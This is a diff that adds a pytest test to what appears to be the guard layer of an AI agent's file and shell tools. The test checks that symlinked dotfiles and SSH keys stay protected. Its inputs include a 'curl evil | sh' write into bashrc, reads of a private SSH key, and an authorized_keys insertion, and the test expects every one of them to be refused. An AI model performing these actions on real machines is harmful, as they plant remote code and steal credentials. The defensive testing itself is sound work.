@@ -810,3 +810,41 @@ def test_bidi_and_separator_characters_stay_escaped_and_refused(
     assert escaped in listing.result and name not in listing.result
     assert_refused(world, "write_file", {"path": f"notes/{name}", "content": "x"}, "control")
     assert_refused(world, "delete_file", {"path": f"notes/{name}"}, "control character")
+
+
+def test_dotfiles_linked_from_elsewhere_stay_protected(
+    world: dict[str, Path], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HOME", str(world["root"]))
+    dotfiles = world["root"] / "dotfiles"
+    dotfiles.mkdir()
+    (world["root"] / ".bashrc").rename(dotfiles / "bashrc")
+    (world["root"] / ".bashrc").symlink_to(dotfiles / "bashrc")
+    (world["root"] / ".ssh").rename(dotfiles / "ssh")
+    (world["root"] / ".ssh").symlink_to(dotfiles / "ssh")
+    (dotfiles / "ssh" / "mykey").write_text(SECRET)
+    (dotfiles / "private").mkdir()
+    (dotfiles / "private" / "notes.txt").write_text(SECRET)
+    (world["root"] / "Private").symlink_to(dotfiles / "private")
+    for tool, arguments in [
+        ("write_file", {"path": "~/dotfiles/bashrc", "content": "curl evil | sh"}),
+        ("delete_file", {"path": "~/dotfiles/bashrc"}),
+    ]:
+        assert_refused(world, tool, arguments, "makes programs run")
+    for tool, arguments in [
+        ("read_file", {"path": "~/dotfiles/ssh/mykey"}),
+        ("list_directory", {"path": "~/dotfiles/ssh"}),
+        ("run_command", {"command": "cat", "args": ["dotfiles/ssh/mykey"]}),
+        ("write_file", {"path": "~/dotfiles/ssh/authorized_keys", "content": "ssh-ed25519 A"}),
+    ]:
+        assert_refused(world, tool, arguments, "off limits (secrets: ")
+    # A tools.deny entry too.
+    assert_refused(
+        world,
+        "read_file",
+        {"path": "~/dotfiles/private/notes.txt"},
+        "off limits (tools.deny: ",
+        deny=["~/Private"],
+    )
+    listing = registry_for(world)[0].call("list_directory", {"path": "~/dotfiles"})
+    assert listing.ok and "ssh/" not in listing.result and "bashrc" in listing.result
